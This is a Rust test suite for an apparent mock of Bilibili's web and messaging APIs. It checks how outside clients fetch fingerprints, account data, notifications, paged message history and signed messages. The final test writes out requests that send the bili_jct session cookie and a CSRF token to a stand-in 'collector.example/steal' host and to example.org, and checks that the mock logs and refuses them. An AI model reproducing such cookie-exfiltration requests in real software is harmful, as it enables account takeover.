//! What programs that are not this project's ask for, as `cargo xtask foreign` saw them ask.

use crate::client::*;
use axum::body::Body;
use axum::http::Request;
use serde_json::{Value, json};

const API: &str = "https://api.bilibili.com";
const VC: &str = "https://api.vc.bilibili.com";

/// The names of an object's fields.
fn names(value: &Value) -> String {
    value.as_object().unwrap().keys().cloned().collect::<Vec<_>>().join(" ")
}

#[tokio::test]
async fn the_ids_of_a_browser_come_without_a_login() {
    let nobody = Client::new().with_cookie("");
    let ids = async || nobody.get(&format!("{API}/x/frontend/finger/spi")).await;
    let reply = ids().await;
    assert_eq!((names(&reply), &reply["message"]), ("code message data".to_owned(), &json!("ok")));
    let (third, fourth) = (reply["data"]["b_3"].as_str().unwrap(), reply["data"]["b_4"].as_str().unwrap());
    assert!(third.len() == 46 && third.ends_with("infoc") && fourth.len() > 46, "{third} {fourth}");
    assert_ne!(ids().await["data"], reply["data"]);
}

#[tokio::test]
async fn their_fingerprint_is_taken_as_json_and_logged() {
    let nobody = Client::new().with_cookie("");
    let payload = r#"{"payload":"{\"3064\":1}"}"#;
    let request = Request::post(format!("{API}/x/internal/gaia-gateway/ExClimbWuzhi"))
        .header("content-type", "application/json")
        .header("cookie", "buvid3=x; buvid4=y; buvid_fp=z; _uuid=w")
        .body(Body::from(payload))
        .unwrap();
    let reply = read(nobody.send_raw(request).await).await;
    assert_eq!(reply, json!({"code": 0, "message": "0", "ttl": 1, "data": {}}));
    assert_eq!(nobody.ask("log").await[0]["text"], payload);
}

#[tokio::test]
async fn ones_own_account_at_length() {
    let client = Client::new();
    let url = format!("{API}/x/space/myinfo");
    assert_eq!(client.with_cookie("").get(&url).await["code"], -101);
    let data = client.get(&url).await["data"].clone();
    assert_eq!((&data["mid"], &data["name"], &data["following"]), (&json!(MAIN), &json!("小易"), &json!(8)));
    assert_eq!((&data["follower"], &data["level_exp"]["current_level"]), (&json!(3), &json!(5)));
}

#[tokio::test]
async fn cards_of_people_come_without_a_login() {
    let nobody = Client::new().with_cookie("");
    let cards = nobody.get(&format!("{VC}/account/v1/user/cards?uids=1,3690970,424242&build=0&mobi_app=web")).await;
    let known: Vec<&Value> = cards["data"].as_array().unwrap().iter().map(|card| &card["mid"]).collect();
    assert_eq!(known, [UP, FRIEND], "who is unknown is left out");
    assert_eq!(cards["data"][0]["name"], "up主");
    assert_eq!(nobody.get(&format!("{VC}/account/v1/user/cards")).await["code"], 2);
}

#[tokio::test]
async fn notifications_are_counted_at_two_addresses() {
    let client = Client::new();
    for (url, own, value) in [
        (format!("{API}/x/msgfeed/unread"), "chat", 0),
        (format!("{VC}/x/im/web/msgfeed/unread?build=0&mobi_app=web"), "sys_msg_style", 1),
    ] {
        assert_eq!(client.with_cookie("").get(&url).await["code"], -101);
        let data = client.get(&url).await["data"].clone();
        assert_eq!(names(&data), format!("at coin danmu favorite like recv_like recv_reply reply sys_msg up {own}"));
        assert_eq!((&data[own], &data["recv_reply"]), (&json!(value), &json!(0)));
    }
    let requests = client.ask("state").await["requests"].clone();
    assert_eq!(requests, json!({"msgfeed_unread": 2, "web_msgfeed_unread": 2}), "told apart though both end alike");
}

#[tokio::test]
async fn choices_about_messages_come_either_way() {
    let client = Client::new();
    let plain = client.link_setting("get").await["data"].clone();
    assert_eq!((&plain["should_receive_group"], plain.get("anti_harassment")), (&json!(1), Some(&Value::Null)));
    assert!(plain.get("msg_notify").is_none() && plain.get("show_unfollowed_msg").is_none());
    let named = client.link_setting("get?msg_notify=1&show_unfollowed_msg=7").await["data"].clone();
    assert_eq!((&named["msg_notify"], &named["show_unfollowed_msg"]), (&json!(1), &json!(0)));
    assert_eq!(client.link_setting("get?msg_notify=x").await["code"], 2);
    let url = format!("{VC}/link_setting/v1/link_setting/get");
    assert_eq!(client.post(&url, &[("msg_notify", "1")]).await["code"], -111);
    let form = [("msg_notify", "1"), ("csrf", "xxx"), ("csrf_token", "xxx")];
    assert_eq!(client.post(&url, &form).await["data"]["msg_notify"], 1);
    assert_eq!(client.ask("state").await["effects"]["changes"], json!({}), "which changes nothing");
}

/// An exporter takes pages of 200 and goes on before `min_seqno`, while `has_more` says so.
#[tokio::test]
async fn an_exporter_that_goes_by_the_smallest_number_gets_all() {
    let client = Client::new();
    let other = 5_000;
    client.control("conversation", json!({"a": MAIN, "b": other, "count": 450, "seed": 1, "odd": false})).await;
    let (mut got, mut end) = (Vec::new(), String::new());
    loop {
        let page = client.history(other, &format!("&size=200&sender_device_id=1&build=0&mobi_app=web{end}")).await;
        got.extend(seqnos(&page));
        if page["data"]["has_more"] == 0 {
            break;
        }
        end = format!("&end_seqno={}", page["data"]["min_seqno"]);
    }
    assert_eq!(got.len(), 450);
    got.dedup();
    assert_eq!(got.len(), 450);
}

/// By the smallest time of each page, in the list that goes on by it.
#[tokio::test]
async fn a_walk_through_list_one_sees_each_session_once() {
    let client = Client::new();
    client.control("settings", json!({"end_ts": "ignored"})).await;
    let (mut seen, mut end) = (Vec::new(), String::new());
    loop {
        let call =
            format!("get_sessions?session_type=1&sort_rule=2&size=4&mobi_app=web&group_fold=0&unfollow_fold=0{end}");
        let page = client.session_svr(&call).await;
        seen.extend(talkers(&page));
        let times =
            page["data"]["session_list"].as_array().unwrap().iter().map(|row| row["session_ts"].as_u64().unwrap());
        let oldest = times.min().unwrap();
        if page["data"]["has_more"] == 0 {
            break;
        }
        end = format!("&end_ts={oldest}");
    }
    let mut all = client.talkers("session_type=1&size=100").await;
    all.sort_unstable();
    seen.sort_unstable();
    assert_eq!(seen, all);
}

/// A form of bilibili-api-python 17.4.2, with fields that only it sends, signed by its two fields and its own.
#[tokio::test]
async fn a_text_in_the_form_of_another_library() {
    let client = Client::new();
    client.control("settings", json!({"sign": "required"})).await;
    client.control("clock", json!({"set": 1_626_181_379})).await;
    let form = [
        ("msg[sender_uid]", "293793435"),
        ("msg[receiver_id]", "1"),
        ("msg[receiver_type]", "1"),
        ("msg[msg_type]", "1"),
        ("msg[msg_status]", "0"),
        ("msg[content]", r#"{"content": "\u4f60\u597d[doge]"}"#),
        ("msg[dev_id]", "A6716E9A-7CE3-47AF-994B-F0B34178D28D"),
        ("msg[new_face_version]", "0"),
        ("msg[timestamp]", "1626181379"),
        ("from_filework", "0"),
        ("build", "0"),
        ("mobi_app", "web"),
        ("csrf", "xxx"),
        ("csrf_token", "xxx"),
    ];
    let query = "w_sender_uid=293793435&w_receiver_id=1&wts=1626181379&web_location=1550101&w_rid=ffbc96cdb97709327d83bc89f7d7e7dd";
    assert_eq!(client.post(&format!("{SEND}?{query}"), &form).await["code"], 0);
    let last = client.history(UP, "&size=1&mobi_app=web").await["data"]["messages"][0].clone();
    assert_eq!(
        last["content"], r#"{"content": "\u4f60\u597d[tv_doge]"}"#,
        "escapes stay, and the old emote is renewed"
    );
}

/// A poller asks for what is new since it last looked, and for the messages after the last it knows of each.
#[tokio::test]
async fn a_poller_sees_what_is_new_once() {
    let client = Client::new();
    let sessions = client.session_svr("get_sessions?session_type=4&group_fold=1&unfollow_fold=0&sort_rule=2").await;
    let known: Vec<(u64, u64)> = sessions["data"]["session_list"]
        .as_array()
        .unwrap()
        .iter()
        .map(|session| (session["talker_id"].as_u64().unwrap(), session["max_seqno"].as_u64().unwrap()))
        .collect();
    let start = client.now().await * 1_000_000;
    let poll =
        async |since: u64| client.session_svr(&format!("new_sessions?begin_ts={since}&build=0&mobi_app=web")).await;
    assert_eq!(poll(start as u64).await["data"]["session_list"], Value::Null);
    client.control("clock", json!({"advance": 5})).await;
    client.other(UP).say(MAIN, "新").await;
    let new = poll(start as u64).await["data"]["session_list"][0].clone();
    assert_eq!(new["talker_id"], UP);
    let last = known.iter().find(|(talker, _)| *talker == UP).unwrap().1;
    let page = client.history(UP, &format!("&size=30&begin_seqno={last}&wts=1&web_location=1550101&w_rid=x")).await;
    assert_eq!(contents(&page), [r#"{"content":"新"}"#]);
    assert_eq!(poll(new["session_ts"].as_u64().unwrap()).await["data"]["session_list"], Value::Null);
}

#[tokio::test]
async fn what_is_sent_to_any_other_host_is_logged() {
    let client = Client::new();
    let request = Request::post("https://collector.example/steal?t=xxx")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("cookie", "bili_jct=xxx")
        .body(Body::from("csrf=xxx&more=1"))
        .unwrap();
    assert_eq!(client.send_raw(request).await.status(), 405);
    let text =
        Request::post("https://example.org/x").header("content-type", "text/plain").body(Body::from("bili_jct=xxx"));
    client.send_raw(text.unwrap()).await;
    client.send_raw(Request::get("https://www.bilibili.com/_blank").body(Body::empty()).unwrap()).await;
    client.get(NAV).await;
    let log = client.ask("log").await;
    let seen = |n: usize| (log[n]["host"].clone(), log[n]["kind"].clone(), log[n]["status"].clone());
    assert_eq!(seen(0), (json!("collector.example"), json!("page"), json!(405)));
    assert_eq!((&log[0]["query"], &log[0]["form"]["csrf"]), (&json!({"t": "xxx"}), &json!("xxx")));
    assert_eq!((&log[0]["csrf"], &log[0]["cookies"]), (&json!(true), &json!(["bili_jct"])));
    assert_eq!((seen(1).0, &log[1]["text"]), (json!("example.org"), &json!("bili_jct=xxx")));
    assert_eq!(seen(2), (json!("www.bilibili.com"), json!("page"), json!(200)));
    assert_eq!((seen(3).1, &log[3]["endpoint"]), (json!("endpoint"), &json!("nav")));
}
